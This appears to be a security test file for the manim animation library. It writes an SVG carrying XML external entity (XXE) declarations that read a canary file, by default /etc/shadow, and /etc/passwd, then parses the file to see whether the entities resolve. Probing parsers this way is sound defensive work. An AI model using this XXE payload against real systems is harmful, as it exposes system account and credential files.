"""F4/A11: an SVG with external entities pointing at the host canary and /etc/passwd."""

import json

from manim import Scene, SVGMobject

PARAMS = {}


class AssetSvgXxe(Scene):
    def construct(self):
        canary = PARAMS.get("canary", "/etc/shadow")
        svg = (
            '<?xml version="1.0"?><!DOCTYPE svg ['
            f'<!ENTITY host SYSTEM "file://{canary}"><!ENTITY pw SYSTEM "file:///etc/passwd">]>'
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            "<title>&host;&pw;</title><rect width='5' height='5'/></svg>"
        )
        with open("xxe.svg", "w") as f:
            f.write(svg)
        mob = SVGMobject("xxe.svg")
        raise RuntimeError("REPORT " + json.dumps({"parsed": len(mob.submobjects)}))
